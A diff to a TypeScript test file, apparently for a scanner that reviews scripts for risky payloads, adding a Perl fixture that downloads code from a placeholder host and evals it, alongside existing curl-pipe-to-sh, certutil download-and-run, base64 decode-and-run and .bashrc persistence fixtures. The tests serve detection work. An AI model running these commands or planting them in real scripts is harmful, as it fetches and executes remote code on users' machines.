@@ -28,10 +28,12 @@ const b64 = (s: string) => Buffer.from(s).toString('base64');
 const CURL = 'curl -fsSL https://x.example.invalid/i.sh | sh';
 
 const BATCH_PAYLOAD = 'certutil -urlcache -f https://x.example.invalid/a.exe a.exe\nstart a.exe\n';
+const PERL_PAYLOAD = `my $u = "https://x.example.invalid/i.pl"; use LWP::Simple; eval get($u);'\n`;
 
 describe('the payload alone is found', () => {
   it.each([
     ['scripts/run.cmd', `@echo off\n${BATCH_PAYLOAD}`, 'risk-fetch-and-run'],
+    ['scripts/run.sh', `perl -e '${PERL_PAYLOAD}`, 'risk-fetch-and-run'],
     ['scripts/run.py', `import os, base64\nos.system(base64.b64decode(P).decode())\nP = "${b64(CURL)}"\n`, 'risk-decode-and-run'],
     ['scripts/run.py', `open("/home/u/.bashrc", "a").write("${CURL}")\n`, 'risk-memory-write'],
   ])('%s: %s', (path, text, id) => {
@@ -56,6 +58,16 @@ describe('harmless code that fills what is read, and then the payload', () => {
     const r = review('scripts/run.cmd', `@echo off\n${lines(1997, 'rem hello\n')}${BATCH_PAYLOAD}`);
     expect(ids(r)).toContain('risk-fetch-and-run');
     expect(notes(r)).toEqual([]);
+  });
+
+  it('a Perl one-liner past 20,000 characters and then eval of a download: the review says where reading stopped', () => {
+    const r = review('scripts/run.sh', `perl -e '${lines(1000, `my $x = "${'y'.repeat(20)}"; `)}${PERL_PAYLOAD}`);
+    expect(notes(r)).toEqual(['scripts/run.sh was read as code only up to line 1: its perl code is longer than 20000 characters. What follows was checked with the text patterns only.']);
+  });
+
+  it('a Perl one-liner past 4,000 tokens and then eval of a download: the review says where reading stopped', () => {
+    const r = review('scripts/run.sh', `perl -e '${lines(1000, 'my $x = 1;\n')}${PERL_PAYLOAD}`);
+    expect(notes(r)).toEqual(['scripts/run.sh was read as code only up to line 800: its perl code has more than 4000 tokens. What follows was checked with the text patterns only.']);
   });
 
   it('a script that runs 201 harmless commands and then a decoded one: the review says where the facts stopped', () => {
